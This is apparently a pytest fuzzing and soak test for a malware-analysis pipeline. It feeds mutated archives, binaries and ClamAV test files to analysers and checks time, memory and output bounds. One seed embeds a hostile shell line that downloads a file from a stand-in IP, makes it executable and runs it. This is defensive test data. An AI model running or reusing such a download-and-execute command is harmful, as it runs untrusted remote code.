# SPDX-License-Identifier: Apache-2.0
"""Damaged bodies become reports: no exception, bounded time, bounded memory, nothing over its bound.

`make soak` runs some thousands of inputs; the normal run a few hundred. Run in this process, not in the
jail, so that nothing is forgiven.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import resource
import tarfile
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import msgspec
import py7zr
import pytest
import pyzipper
import setuptools
import zstandard

from mead.analysis.analyser import Artifact
from mead.analysis.magics_tables import MAGICS
from mead.analysis.registry import ANALYSERS
from mead.analysis.settings import AnalysisSettings

NAMES = ("filetype", "hashes", "unpack", "strings", "scripts", "pe", "elf", "yara")
TESTFILES = Path("/usr/share/clamav-testfiles")
LARGEST_SEED_BYTES = 200_000
MAX_CPU_SECONDS = 10.0
MAX_GROWN_BYTES = 700 << 20
MAX_ADDRESS_BYTES = 6 << 30

BOUNDS = AnalysisSettings(
    clamd_socket="", clamd_database="", external_tools=False, max_total_bytes=16 << 20, analyser_seconds=8,
    emulated_instructions=40_000, passwords=("infected",), yara_seconds=5,
)  # fmt: skip


def _archives(content: bytes) -> Iterator[bytes]:
    for write in (_zip, _tar, _aes, _seven_zip):
        out = io.BytesIO()
        write(out, content)
        yield out.getvalue()
    yield from (gzip.compress(content), bz2.compress(content), lzma.compress(content))
    yield zstandard.ZstdCompressor().compress(content)


def _zip(out: io.BytesIO, content: bytes) -> None:
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", content)
        archive.writestr("b", b"second" * 100)


def _tar(out: io.BytesIO, content: bytes) -> None:
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("a")
        entry.size = len(content)
        archive.addfile(entry, io.BytesIO(content))


def _aes(out: io.BytesIO, content: bytes) -> None:
    with pyzipper.AESZipFile(out, "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(b"infected")
        archive.writestr("a", content)


def _seven_zip(out: io.BytesIO, content: bytes) -> None:
    with py7zr.SevenZipFile(out, "w") as archive:
        archive.writestr(content, "a")


@pytest.fixture(scope="module")
def seeds() -> list[bytes]:
    content = random.Random(3).randbytes(3000) + b"#!/bin/sh\nwget http://192.0.2.1/x; chmod +x x; ./x\n" * 20
    found = [content[3000:], *_archives(content)]
    found += [
        Path("/bin/true").resolve().read_bytes(),
        (Path(setuptools.__file__).parent / "cli-32.exe").read_bytes(),
    ]
    found += [
        path.read_bytes() for path in sorted(TESTFILES.glob("*")) if path.stat().st_size < LARGEST_SEED_BYTES
    ]
    return found


def _set_byte(body: bytearray, at: int, dice: random.Random) -> None:
    body[at] = dice.randrange(256)


def _set_word(body: bytearray, at: int, dice: random.Random) -> None:
    body[at : at + 4] = dice.choice((b"\xff" * 4, bytes(4), b"\x7f\xff\xff\xff", b"\0\0\0\x80", b"\1\0\0\0"))


def _cut_out(body: bytearray, at: int, dice: random.Random) -> None:
    del body[at : at + dice.randrange(1, 200)]


def _repeat(body: bytearray, at: int, dice: random.Random) -> None:
    start = dice.randrange(len(body))
    body[at:at] = body[start : start + dice.randrange(1, 400)]


def _cut_off(body: bytearray, at: int, dice: random.Random) -> None:
    if not dice.randrange(4):
        del body[at:]


MUTATIONS: tuple[Callable[[bytearray, int, random.Random], None], ...] = (
    _set_byte, _set_byte, _set_word, _cut_out, _repeat, _cut_off,
)  # fmt: skip


def _mutated(seed: bytes, dice: random.Random) -> bytes:
    body = bytearray(seed)
    for _ in range(dice.choice((1, 1, 2, 4, 16, 64))):
        if body:
            dice.choice(MUTATIONS)(body, dice.randrange(len(body)), dice)
    return bytes(body)


def _check(body: bytes, label: str) -> None:
    artifact = Artifact.of(body, "x")
    for name in NAMES:
        started = time.process_time()
        report = ANALYSERS.load(name).analyse(artifact, BOUNDS)
        assert time.process_time() - started < MAX_CPU_SECONDS, (label, name)
        if report is None:
            continue
        assert report.verdict in {"found", "clean", "skipped", "failed", "done"}
        assert len(report.children) <= BOUNDS.max_children
        assert sum(len(child.data) for child in report.children) <= BOUNDS.max_total_bytes
        assert len(report.indicators) <= BOUNDS.max_indicators
        msgspec.msgpack.encode(report)


@pytest.fixture(autouse=True)
def _little_memory() -> Iterator[None]:
    """What asks for all memory gets an error here rather than that of the whole machine."""
    before = resource.getrlimit(resource.RLIMIT_AS)
    resource.setrlimit(resource.RLIMIT_AS, (MAX_ADDRESS_BYTES, before[1]))
    yield
    resource.setrlimit(resource.RLIMIT_AS, before)


def _run(seeds: list[bytes], count: int, first: int) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    for number in range(first, first + count):
        dice = random.Random(number)
        _check(_mutated(dice.choice(seeds), dice), f"input {number}")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - before < MAX_GROWN_BYTES


def test_seeds_are_read_as_they_are(seeds: list[bytes]) -> None:
    for number, seed in enumerate(seeds):
        _check(seed, f"seed {number}")


@pytest.mark.parametrize("part", range(4))
def test_damaged_bodies_become_reports(seeds: list[bytes], part: int) -> None:
    _run(seeds, 60, 1000 * part)


def test_noise_behind_every_magic_becomes_a_report() -> None:
    dice = random.Random(7)
    for offset, mark, name, _ in MAGICS:
        _check(bytes(offset) + mark + dice.randbytes(3000), name)


@pytest.mark.soak
@pytest.mark.parametrize("part", range(8))
def test_many_damaged_bodies_become_reports(seeds: list[bytes], part: int) -> None:
    _run(seeds, 2500, 100_000 * (part + 1))
